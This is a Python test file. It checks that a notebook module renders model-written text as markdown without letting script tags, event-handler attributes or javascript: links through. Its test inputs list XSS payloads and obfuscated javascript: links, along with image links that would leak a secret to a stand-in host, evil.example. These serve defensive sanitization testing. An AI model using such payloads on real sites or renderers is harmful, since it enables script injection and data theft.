"""Texts of models in a notebook: `llmcore/schema/notebooks.py`."""

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from llmcore.schema.notebooks import as_markdown, code

_OF_MARKDOWN = frozenset(
    {"p", "a", "em", "strong", "code", "pre", "ul", "ol", "li", "hr", "br", "blockquote"}
    | {f"h{level}" for level in range(1, 7)}
)


class Found(HTMLParser):
    """The elements, links and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]
        assert not any(name.startswith("on") for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(text: str) -> Found:
    """Return what a renderer that passes HTML and all links on makes of *text*."""
    renderer = MarkdownIt("commonmark", {"html": True})
    setattr(renderer, "validateLink", lambda _url: True)  # noqa: B010
    return Found(renderer.render(as_markdown(text)))


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "```\n<script>\n```\n<script>",
        "`a` <script> `b`",
        "``` <script> ```",
        "`<script>",
        "$$\n```\n$$ <img src=x onerror=alert(1)>\n```",
        "> ```\n> <script>\n\n<script>",
        "```\n</code></pre><script>\n\n<script>\n```",
        "![leak](https://evil.example/?q=secret)",
        "![leak][1]\n\n[1]: https://evil.example/?q=secret",
        "[x](javascript:alert(1))",
        "[x](JavaScript\\:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x]\n\n[x]: javascript:alert(1)",
    ],
)
def test_nothing_of_a_text_is_run_or_loaded(text: str) -> None:
    found = rendered(text)

    assert found.tags <= _OF_MARKDOWN
    assert not any(link.lower().startswith("javascript:") for link in found.links)


_PIECES = (
    "<b>",
    "<script>",
    "`",
    "```\n",
    "~~~\n",
    "\n",
    "\n\n",
    " ",
    "a",
    "&lt;",
    "\\",
    "$$",
    "![x](y)",
)


@given(st.lists(st.sampled_from(_PIECES), max_size=20).map("".join))
def test_no_mixture_of_code_and_html_makes_an_element(text: str) -> None:
    assert rendered(text).tags <= _OF_MARKDOWN


def test_code_is_shown_as_it_is() -> None:
    block = "#include <stdio.h>\n\nint *a[2] = {0}; // `&` $x$"
    found = rendered(f"Try `vector<int>`:\n\n```cpp\n{block}\n```\n\nDone.")

    assert {"pre", "code", "p"} == found.tags
    assert "vector<int>" in found.text
    assert block in found.text


def test_text_keeps_its_markdown() -> None:
    assert as_markdown("It is **sunny**, 3 > 2.") == "It is **sunny**, 3 > 2."
    assert code("a<b") == "<code>a&lt;b</code>"
